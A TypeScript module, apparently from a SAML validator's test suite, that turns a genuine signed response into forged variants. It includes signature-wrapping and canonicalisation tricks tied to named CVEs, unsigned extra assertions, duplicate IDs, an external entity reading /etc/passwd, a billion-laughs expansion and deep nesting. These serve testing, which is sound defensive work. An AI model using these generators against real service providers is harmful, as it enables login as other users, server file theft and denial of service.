import { type DigestMethod, NS } from './names.js';
import { digestOf, signedInfoFor } from './sign.js';
import { all, byId, childrenOf, first, parseXml, writeXml } from './xml.js';

/** Attacks on a genuine signed response. Each takes the response as XML and gives what the attacker would send. */

/** The person's name is another one than was signed. */
export function alterNameId(xml: string, nameId: string): string {
  const document = parseXml(xml);
  first(document, 'saml', 'NameID').textContent = nameId;
  return writeXml(document);
}

/** CVE-2017-11428 and its family: what is put into the NameID leaves the signature good where it is not canonical. */
export const inNameId = {
  comment: (xml: string, at: number): string => intoNameId(xml, at, '<!---->'),
  processingInstruction: (xml: string, at: number): string => intoNameId(xml, at, '<?x y?>'),
  /** The rest of the text becomes CDATA, which canonical form writes as plain text. */
  cdata: (xml: string, at: number): string =>
    xml.replace(
      /(<saml:NameID[^>]*>)([^<]*)(<\/saml:NameID>)/,
      (_, open: string, text: string, close: string) =>
        `${open}${text.slice(0, at)}<![CDATA[${text.slice(at)}]]>${close}`,
    ),
};

const intoNameId = (xml: string, at: number, what: string): string =>
  xml.replace(
    /(<saml:NameID[^>]*>)([^<]*)/,
    (_, open: string, text: string) => open + text.slice(0, at) + what + text.slice(at),
  );

/** CVE-2025-29774: a SignedInfo over the altered element beside the one that was signed. */
export function secondSignedInfo(xml: string, nameId: string, order: 'before' | 'after'): string {
  const document = parseXml(xml);
  const { element, signature } = signedElement(document);
  first(document, 'saml', 'NameID').textContent = nameId;
  const forged = document.importNode(
    parseXml(signedInfoFor(element.getAttribute('ID') ?? '', digestWithout(element, signature)))
      .documentElement,
    true,
  );
  const genuine = first(signature, 'ds', 'SignedInfo');
  signature.insertBefore(forged, order === 'before' ? genuine : genuine.nextSibling);
  return writeXml(document);
}

/** CVE-2025-29775: the digest of the altered element in a comment inside DigestValue, which canonical form leaves out. */
export function commentInDigestValue(xml: string, nameId: string): string {
  const document = parseXml(xml);
  const { element, signature } = signedElement(document);
  first(document, 'saml', 'NameID').textContent = nameId;
  const value = first(signature, 'ds', 'DigestValue');
  const comment = document.createComment(digestWithout(element, signature));
  value.insertBefore(comment, value.firstChild);
  return writeXml(document);
}

/** An element of the same ID beside the one that was signed. */
export function duplicateId(xml: string): string {
  const document = parseXml(xml);
  const copy = first(document, 'saml', 'Assertion').cloneNode(true) as Element;
  const extensions = document.createElementNS(NS.samlp, 'samlp:Extensions');
  extensions.appendChild(copy);
  document.documentElement.insertBefore(extensions, document.documentElement.firstChild);
  return writeXml(document);
}

/** Two documents in one: CVE-2022-39299. */
export const twoRoots = (xml: string, other: string): string => xml + other;

/** A second, unsigned assertion that names somebody else, in one of the places that a careless reader looks at. */
export function extraAssertion(
  xml: string,
  nameId: string,
  where: 'first' | 'last' | 'extensions' | 'object',
): string {
  const document = parseXml(xml);
  const genuine = first(document, 'saml', 'Assertion');
  const forged = genuine.cloneNode(true) as Element;
  for (const signature of childrenOf(forged, 'ds', 'Signature')) forged.removeChild(signature);
  forged.setAttribute('ID', '_forged');
  for (const element of all(forged, 'saml', 'NameID')) element.textContent = nameId;
  const root = document.documentElement;
  if (where === 'first') root.insertBefore(forged, genuine);
  if (where === 'last') root.appendChild(forged);
  if (where === 'extensions') {
    const extensions = document.createElementNS(NS.samlp, 'samlp:Extensions');
    extensions.appendChild(forged);
    root.insertBefore(extensions, root.firstChild);
  }
  if (where === 'object') {
    const object = document.createElementNS(NS.ds, 'ds:Object');
    object.appendChild(forged);
    first(document, 'ds', 'Signature').appendChild(object);
  }
  return writeXml(document);
}

export const withDoctype = (xml: string): string => `<!DOCTYPE samlp:Response>${xml}`;

/** The NameID's text comes from an entity. */
export const withEntity = (xml: string, nameId: string): string =>
  `<!DOCTYPE r [<!ENTITY who "${nameId}">]>${xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&who;')}`;

/** An entity that reads a file of the server. */
export const withExternalEntity = (xml: string): string =>
  `<!DOCTYPE r [<!ENTITY who SYSTEM "file:///etc/passwd">]>${xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&who;')}`;

/** Ten entities, each ten times the one before: 10^10 letters in less than 1 KB. */
export function billionLaughs(xml: string): string {
  const entities = Array.from({ length: 10 }, (_, i) => {
    const content = i === 0 ? 'lol' : `&l${i - 1};`.repeat(10);
    return `<!ENTITY l${i} "${content}">`;
  });
  return `<!DOCTYPE r [${entities.join('')}]>${xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&l9;')}`;
}

/** So many elements inside each other, within samlp:Extensions of a response. */
export const withDepth = (xml: string, depth: number): string =>
  xml.replace(
    /(<samlp:Response[^>]*>)/,
    `$1<samlp:Extensions>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</samlp:Extensions>`,
  );

/** Turns the first DigestMethod into another one, without signing again. */
export function claimDigest(xml: string, method: DigestMethod): string {
  const document = parseXml(xml);
  first(document, 'ds', 'DigestMethod').setAttribute('Algorithm', method);
  return writeXml(document);
}

/** The first signature and the element that it signs. */
function signedElement(document: Document): { readonly element: Element; readonly signature: Element } {
  const signature = first(document, 'ds', 'Signature');
  const uri = first(signature, 'ds', 'Reference').getAttribute('URI') ?? '';
  return { element: byId(document, uri.slice(1)), signature };
}

/** The digest of an element as the enveloped-signature transform leaves it. */
function digestWithout(element: Element, signature: Element): string {
  const next = signature.nextSibling;
  element.removeChild(signature);
  const digest = digestOf(element);
  element.insertBefore(signature, next);
  return digest;
}
